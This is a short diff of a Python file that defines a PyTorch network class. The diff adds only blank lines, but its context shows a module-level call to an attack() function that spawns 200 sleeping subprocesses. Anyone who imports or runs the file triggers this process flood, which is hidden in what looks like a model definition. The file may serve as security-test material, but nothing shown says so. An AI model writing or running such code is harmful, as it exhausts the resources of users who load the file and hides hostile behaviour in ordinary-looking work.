@@ -7,6 +7,7 @@ import sys
 import torch
 from torch import nn
 
+
 def attack():
     for _ in range(200):
         subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20)"])
@@ -39,5 +40,6 @@ class Net(nn.Module):
 
     def forward(self, x):
         return self.layers(x)
+
 
 attack()
